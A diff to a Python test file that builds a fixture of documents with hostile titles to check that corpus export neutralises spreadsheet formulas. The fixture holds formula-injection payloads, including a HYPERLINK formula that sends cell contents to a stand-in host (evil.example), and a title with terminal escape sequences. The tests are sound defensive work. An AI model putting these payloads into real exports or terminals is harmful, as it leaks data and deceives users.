@@ -11,6 +11,8 @@ import pandas as pd
 import pytest
 
 from policylens.corpus.export import export_corpus, neutralise_formulas
+from policylens.corpus.ingest import ingest_bytes
+from policylens.corpus.records import DocumentMeta
 from policylens.corpus.store import Corpus
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
@@ -28,8 +30,8 @@ def evil_corpus(tmp_path):
         for n, title in enumerate([EVIL, "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR",
                                    "正常标题", "标题\x1b[2J\x1b]0;pwned\x07结束"]):
             body = (BODIES[n] + "。") * 4
-            result = corpus.add(f"{title}\n{body}".encode(), source=f"http://x.gov.cn/{n}.txt",
-                                filename=f"{n}.txt", overrides={"title": title})
+            result = ingest_bytes(corpus, f"{title}\n{body}".encode(), DocumentMeta(
+                f"http://x.gov.cn/{n}.txt", filename=f"{n}.txt", overrides={"title": title}))
             assert result.status == "added", result
     return data
 
